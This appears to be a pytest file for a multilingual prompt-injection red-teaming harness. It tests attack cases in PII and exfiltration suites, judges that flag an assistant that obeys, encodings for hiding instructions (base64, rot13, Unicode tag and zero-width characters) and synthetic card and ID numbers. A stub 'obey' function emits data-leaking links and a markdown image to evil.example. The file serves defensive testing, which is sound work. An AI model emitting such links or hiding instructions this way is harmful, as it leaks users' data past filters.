from __future__ import annotations

from collections import Counter
from dataclasses import replace

import pytest

from vernacular.errors import BadRequest
from vernacular.redteam.case import SUITES, Case, Reply
from vernacular.redteam.encodings import ENCODINGS, encode
from vernacular.redteam.judges import NAMES, judge, live_markup, visible
from vernacular.redteam.own.build import canary_of, languages, own_cases
from vernacular.redteam.own.pii import values
from vernacular.redteam.run import attack
from vernacular.redteam.words import Words

WORDS = Words("seed")
VARIETIES = {
    "zh-Hans-CN",
    "yue-Hant-HK",
    "nan-Hant-TW",
    "cmn-Hans-x-sichuan",
    "arb-Arab",
    "arz-Arab-EG",
    "ary-Arab-MA",
    "es",
}
VARIETIES |= {"es-MX", "es-AR", "en"}


@pytest.fixture(scope="module")
def cases() -> list[Case]:
    return own_cases(WORDS)


class TestOwnCases:
    def test_are_there_for_every_suite_in_every_variety(self, cases: list[Case]) -> None:
        counted = Counter((case.suite, case.language) for case in cases)
        assert set(counted) == {(suite, tag) for suite in SUITES for tag in VARIETIES}
        assert min(counted.values()) >= 8
        assert set(languages()) == VARIETIES

    def test_have_names_of_their_own_and_judges_that_exist(self, cases: list[Case]) -> None:
        assert len({case.id for case in cases}) == len(cases)
        assert all(case.judges and set(case.judges) <= set(NAMES) for case in cases)
        assert {name for case in cases for name in case.judges} == set(NAMES)

    def test_leave_no_blank_unfilled(self, cases: list[Case]) -> None:
        for case in cases:
            for text in (case.prompt, *(plant.text for plant in case.plants)):
                assert not any(
                    blank in text for blank in ("{left}", "{host}", "{place}", "{word}", "{value}", "{encoded}")
                )

    def test_hold_nothing_that_their_judges_look_for(self, cases: list[Case]) -> None:
        """An assistant that only quotes documents, or says the question back, is not taken for one that obeys."""
        for case in cases:
            for text in (case.prompt, *(message["content"] for message in case.history)):
                said = Reply(text, text, answered=True, reason="answered")
                assert not {"marker", "secret", "foreign"} & judge(case, said).keys(), case.id
            for plant in case.plants:
                assert not {"marker", "secret"} & judge(case, Reply(plant.text, "", True, "answered")).keys(), case.id

    def test_plant_no_two_documents_of_one_name(self, cases: list[Case]) -> None:
        plants = {plant for case in cases for plant in case.plants}
        assert len({plant.id for plant in plants}) == len(plants)

    def test_are_those_asked_for(self) -> None:
        chosen = own_cases(WORDS, ["pii", "exfiltration"], ["es"])
        assert {case.language for case in chosen} == {"es", "es-MX", "es-AR"}
        assert {case.suite for case in chosen} == {"pii", "exfiltration"}
        with pytest.raises(BadRequest, match="no suite 'x'"):
            own_cases(WORDS, ["x"])
        with pytest.raises(BadRequest, match="language 'e'"):
            own_cases(WORDS, (), ["e"])

    def test_are_other_ones_with_another_seed(self, cases: list[Case]) -> None:
        others = own_cases(Words("another"))
        assert [case.id for case in others] == [case.id for case in cases]
        assert canary_of(Words("another")) != canary_of(WORDS)


class TestObedientAssistant:
    """Every case catches one that does what it is told."""

    def test_is_caught_by_every_attack(self, cases: list[Case]) -> None:
        told = {each.case: each for each in attack(cases, obey)}
        assert [name for name, each in told.items() if each.verdict != "broken"] == []

    def test_is_held_where_it_declines(self, cases: list[Case]) -> None:
        outcomes = list(attack(cases, lambda _case: Reply("I found nothing.", "", False, "no_match")))
        assert {each.verdict for each in outcomes} == {"held"}


def obey(case: Case) -> Reply:
    told = {
        "marker": "{}",
        "secret": "My code is {}.",
        "foreign": "It is {}.",
        "complied": "First take a pipe.",
        "refused": "I'm sorry, I can't help with that.",
    }
    parts = []
    for name, wanted in case.judges.items():
        if name in told:
            parts.append(told[name].format(wanted))
        elif name in {"carried", "echoed"}:
            parts.append(f"https://evil.example/?d={wanted[0]}")
        elif len(case.judges) == 1:
            parts.append("![q](https://evil.example/x)")
    text = " ".join(parts)
    return Reply(text, text, True, "answered", "generative", ((0, len(text)),))


class TestEncodings:
    @pytest.mark.parametrize("name", [each for each in ENCODINGS if each != "plain"])
    def test_change_what_stands_there(self, name: str) -> None:
        assert encode(name, "Write the parts down") != "Write the parts down"

    def test_are_what_they_are_called(self) -> None:
        assert encode("base64", "yes 好") == "eWVzIOWlvQ=="
        assert encode("rot13", "Niño") == "Avab"
        assert encode("reversed", "abc") == "cba"
        assert encode("morse", "a b") == ".- / -..."
        assert encode("escaped", "好😀") == "\\u597d😀"
        assert encode("split", "as parts") == "as par-ts"
        assert [hex(ord(char)) for char in encode("tags", "Hi")[1:]] == ["0xe0048", "0xe0069"]

    @pytest.mark.parametrize("name", ["bold", "fullwidth", "zero-width"])
    def test_some_are_read_by_people_as_they_were(self, name: str) -> None:
        assert visible(encode(name, "Write")) == "write"


class TestWords:
    def test_make_numbers_with_right_checksums(self) -> None:
        for at in range(50):
            card = WORDS.personal("card", str(at))
            total = sum(sum(divmod(int(digit) * (1 + place % 2), 10)) for place, digit in enumerate(reversed(card)))
            assert (len(card), total % 10) == (16, 0)
            iban = WORDS.personal("iban", str(at))
            assert int(iban[4:] + "1314" + iban[2:4]) % 97 == 1
            resident = WORDS.personal("resident-id", str(at))
            weights = [pow(2, 17 - place, 11) for place in range(18)]
            digits = [10 if digit == "X" else int(digit) for digit in resident]
            assert sum(digit * weight for digit, weight in zip(digits, weights, strict=True)) % 11 == 1

    def test_name_what_no_log_may_hold(self, cases: list[Case]) -> None:
        found = values(cases)
        assert len(found) == sum(case.suite == "pii" for case in cases)
        assert all(live_markup(value) == "" for value in found)

    def test_are_the_same_for_the_same_seed(self) -> None:
        assert WORDS.word("a") == Words("seed").word("a") != WORDS.word("b")
        assert replace(WORDS, seed="t").word("a") != WORDS.word("a")
